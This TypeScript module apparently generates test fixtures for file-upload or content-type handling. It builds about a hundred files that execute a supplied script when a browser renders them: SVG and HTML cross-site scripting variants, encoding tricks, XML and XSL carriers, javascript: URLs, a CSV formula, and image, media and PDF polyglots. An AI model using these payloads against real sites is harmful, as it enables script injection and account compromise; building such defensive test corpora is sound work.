import { gzipSync } from 'node:zlib'

/** Files that run a script if a browser displays them as the type that they claim to be. */
export function listHostileFiles(script: string): Record<string, string | Buffer> {
  const tag = `<script>${script}</script>`
  const html = `<!doctype html>${tag}`
  return {
    ...pictures(script, tag),
    ...pages(script, tag, html),
    ...markup(script, tag),
    ...code(script, html),
    ...polyglots(script, html),
  }
}

const space = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
const svg = (inside: string, attributes = ''): string => `<svg ${space} ${attributes}>${inside}</svg>`
const data = (script: string): string => `data:text/javascript,${encodeURIComponent(script)}`

const pictures = (script: string, tag: string) => ({
  'plain.svg': svg(tag),
  'onload.svg': svg('', `onload="${script}"`),
  'declared.svg': `<?xml version="1.0"?>${svg(tag)}`,
  'spaced.svg': `\n\n   ${svg(tag)}`,
  'commented.svg': `<!-- x -->${svg(tag)}`,
  'marked.svg': `\ufeff${svg(tag)}`,
  'typed.svg': `<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x">${svg(tag)}`,
  'entity.svg': `<!DOCTYPE svg [<!ENTITY s "${tag.replaceAll('"', '&#34;')}">]>${svg('&s;')}`,
  'cdata.svg': svg(`<script><![CDATA[${script}]]></script>`),
  'linked.svg': svg(`<script xlink:href="${data(script)}"/>`),
  'animated.svg': svg(`<animate attributeName="x" dur="1s" onbegin="${script}"/>`),
  'foreign.svg': svg(
    `<foreignObject><body xmlns="http://www.w3.org/1999/xhtml">${tag}</body></foreignObject>`,
  ),
  'image.svg': svg(`<image href="x:" onerror="${script}"/>`),
  'wide.svg': Buffer.from(`\ufeff${svg(tag)}`, 'utf16le'),
  'packed.svgz': gzipSync(svg(tag)),
  'picture.png': svg(tag),
})

const pages = (script: string, tag: string, html: string) => ({
  'page.html': html,
  'page.png': html,
  'page.txt': html,
  'upper.htm': `<HTML><BODY ONLOAD="${script}">`,
  'server.shtml': html,
  'fragment.txt': `<img src=x: onerror="${script}">`,
  'spaced.html': `${' \n'.repeat(600)}${html}`,
  'commented.html': `<!--${'x'.repeat(2_000)}-->${html}`,
  'zeros.html': `\0\0\0${html}`,
  'marked.html': `\ufeff${html}`,
  'wide.html': Buffer.from(`\ufeff${html}`, 'utf16le'),
  'wide-big.html': Buffer.from(`\ufeff${html}`, 'utf16le').swap16(),
  'utf7.html': `+ADw-script+AD4-${script}+ADw-/script+AD4-`,
  'framed.html': `<iframe srcdoc="${tag.replaceAll('"', '&quot;')}"></iframe>`,
  'refresh.html': `<meta http-equiv=refresh content="0;url=data:text/html,${encodeURIComponent(html)}">`,
  'lax.html': `<meta http-equiv="Content-Security-Policy" content="script-src *">${html}`,
  'short.html': `<svg/onload="${script}">`,
  'details.html': `<details open ontoggle="${script}">`,
  'film.html': `<video src=x: onerror="${script}"></video>`,
  'linked.html': `<script src="${data(script)}"></script>`,
  'module.html': `<script type=module>${script}</script>`,
  'page.mhtml': `From: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n${html}\r\n--b--`,
  'mail.eml': `MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n${html}`,
  'program.hta': `<hta:application id=x>${html}`,
})

const xhtml = 'http://www.w3.org/1999/xhtml'
const markup = (script: string, tag: string) => ({
  'page.xhtml': `<?xml version="1.0"?><html xmlns="${xhtml}">${tag}</html>`,
  'page.xht': `<html xmlns="${xhtml}"><body onload="${script}"/></html>`,
  'page.xml': `<?xml version="1.0"?><a><script xmlns="${xhtml}">${script}</script></a>`,
  'sheet.xml': `<?xml version="1.0"?><?xml-stylesheet href="#x" type="text/xsl"?><xsl:stylesheet id="x" version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html>${tag}</html></xsl:template></xsl:stylesheet>`,
  'style.xsl': `<?xml version="1.0"?><xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/">${tag}</xsl:template></xsl:stylesheet>`,
  'feed.rss': `<?xml version="1.0"?><rss version="2.0"><channel><x:script xmlns:x="${xhtml}">${script}</x:script></channel></rss>`,
  'feed.atom': `<feed xmlns="http://www.w3.org/2005/Atom"><x:script xmlns:x="${xhtml}">${script}</x:script></feed>`,
  'formula.mml': `<math xmlns="http://www.w3.org/1998/Math/MathML"><x:script xmlns:x="${xhtml}">${script}</x:script></math>`,
  'window.xul': `<window xmlns="http://www.mozilla.org/keymaster/gatekeeper/there.is.only.xul"><script>${script}</script></window>`,
  'data.rdf': `<rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><x:script xmlns:x="${xhtml}">${script}</x:script></rdf:RDF>`,
})

const code = (script: string, html: string) => ({
  'code.js': script,
  'module.mjs': `${script};export default 1`,
  'worker.js': `${script};self.addEventListener('fetch', () => {})`,
  'data.json': `(()=>{${script}})()`,
  'answer.jsonp': `eval(${JSON.stringify(script)})`,
  'style.css': `@import url("javascript:${script}");body{background:url("javascript:${script}")}`,
  'behaviour.htc': `<public:component>${html}</public:component>`,
  'site.webmanifest': `{"name":"x","start_url":"javascript:${script}"}`,
  'cache.appcache': 'CACHE MANIFEST\n/',
  'address.url': `[InternetShortcut]\r\nURL=javascript:${script}\r\n`,
  'card.vcf': `BEGIN:VCARD\r\nFN:${html}\r\nEND:VCARD`,
  'date.ics': `BEGIN:VCALENDAR\r\nSUMMARY:${html}\r\nEND:VCALENDAR`,
  'table.csv': `=HYPERLINK("javascript:${script}"),${html}`,
})

const bytes = (head: string, rest: string): Buffer =>
  Buffer.concat([Buffer.from(head, 'latin1'), Buffer.from(rest)])

/** Each file starts as one type and continues as a page, or is also a program. */
const polyglots = (script: string, html: string) => ({
  'picture.gif': bytes('GIF89a', html),
  'program.gif': bytes('GIF89a=1;', script),
  'commented.gif': bytes('GIF89a/*\x01\x00\x01\x00\x00\x00\x00*/=1;', script),
  'picture.jpg': bytes('\xff\xd8\xff\xfe\x10\x00', html),
  'photo.jpg': bytes('\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01', html),
  'text.png': bytes(
    '\x89PNG\r\n\x1a\n\x00\x00\x00\x0dIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x00\x00\x00\x00',
    html,
  ),
  'bitmap.bmp': bytes('BM', html),
  'program.bmp': bytes('BM=1;', script),
  'picture.webp': bytes('RIFF\x24\x00\x00\x00WEBPVP8 ', html),
  'icon.ico': bytes('\x00\x00\x01\x00\x01\x00', html),
  'picture.tiff': bytes('II*\x00\x08\x00\x00\x00', html),
  'sound.wav': bytes('RIFF\x24\x00\x00\x00WAVEfmt ', html),
  'program.wav': bytes('RIFF=1/*WAVEfmt */;', script),
  'sound.mp3': bytes('ID3\x03\x00\x00\x00\x00\x00\x00', html),
  'sound.ogg': bytes('OggS\x00\x02', html),
  'film.mp4': bytes('\x00\x00\x00\x18ftypmp42\x00\x00\x00\x00', html),
  'film.webm': bytes('\x1a\x45\xdf\xa3', html),
  'poly.pdf': bytes('%PDF-1.7\n', html),
  'late.pdf': bytes('', `${html}\n%PDF-1.7\n`),
  'active.pdf': bytes(
    '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n',
    html,
  ),
  'archive.zip': bytes('PK\x03\x04', html),
  'book.docx': bytes('PK\x03\x04\x14\x00\x06\x00', html),
  'archive.gz': gzipSync(html),
  'font.woff': bytes('wOFF\x00\x01\x00\x00', html),
  'flash.swf': bytes('FWS\x06\x00\x00\x00\x00', html),
  'module.wasm': bytes('\0asm\x01\x00\x00\x00', html),
})
